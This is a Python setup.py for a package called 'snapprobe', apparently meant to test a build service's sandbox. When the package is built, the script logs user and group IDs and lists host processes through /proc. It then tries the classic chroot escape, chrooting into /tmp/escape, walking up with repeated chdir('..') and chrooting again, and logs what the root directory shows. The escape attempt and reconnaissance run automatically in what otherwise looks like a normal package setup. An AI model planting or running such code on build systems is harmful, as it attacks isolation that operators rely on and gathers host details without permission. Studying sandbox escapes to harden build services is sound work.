# Reports, into the build log, what the build can see and do; then builds.
import os

from setuptools import setup

print("probe: uid", os.getuid(), "gid", os.getgid(), flush=True)
visible = []
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            with open("/proc/%s/comm" % entry) as comm:
                visible.append("%s:%s" % (entry, comm.read().strip()))
        except OSError:
            pass
print("probe: processes", len(visible), " ".join(sorted(visible)), flush=True)

# The classic escape: chroot into a subdirectory, walk up past it, chroot ".".
try:
    os.makedirs("/tmp/escape", exist_ok=True)
    os.chroot("/tmp/escape")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("probe: chroot escape: chroot succeeded, root now lists", sorted(os.listdir("/")), flush=True)
except OSError as error:
    print("probe: chroot escape: failed:", type(error).__name__, error.errno, flush=True)
print("probe: root lists", " ".join(sorted(os.listdir("/"))), flush=True)

setup(name="snapprobe", version="1.0", packages=["snapprobe"])
